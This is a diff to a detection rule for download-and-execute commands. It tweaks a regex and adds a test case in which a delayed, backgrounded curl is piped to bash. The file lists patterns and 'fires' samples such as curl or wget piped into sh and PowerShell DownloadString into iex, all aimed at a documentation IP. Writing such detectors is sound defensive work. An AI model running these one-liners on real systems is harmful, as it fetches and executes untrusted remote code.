@@ -5,7 +5,7 @@
 -- family:          download
 -- false positives: a cloud image's first boot, which fetches and runs its setup once
 --
--- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(ba|da|z|k|a|)sh($|[ "';&])
+-- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(ba|da|z|k|a|)sh($|[ "';&)])
 -- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(python|perl|ruby|php|node|bun|lua|osascript|base64|openssl|sudo)
 -- pattern: unix (curl|wget|fetch) [^;]*(;|&&)[^;]*(chmod|(ba|da|z|)sh +[/.$])
 -- pattern: unix (ba|da|z|k|)sh +(-[a-z]+ +)*["']?(<\(|\$\(|`) *(curl|wget)
@@ -14,6 +14,7 @@
 -- pattern: windows (?i)(downloadstring|net\.webclient|invoke-webrequest|iwr).*\| *(iex|invoke-expression)
 -- pattern: windows (?i)(mshta|regsvr32)(\.exe)?"? .*https?://
 -- fires:   {"unix": "curl -s http://192.0.2.1/x | sh"}
+-- fires:   {"unix": "(sleep 60; curl -s http://192.0.2.1/x | bash) &"}
 -- fires:   {"unix": "wget -q http://192.0.2.1/x; chmod 755 x"}
 -- fires:   {"unix": "bash -c \"$(curl http://192.0.2.1/x)\""}
 -- fires:   {"windows": "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')"}
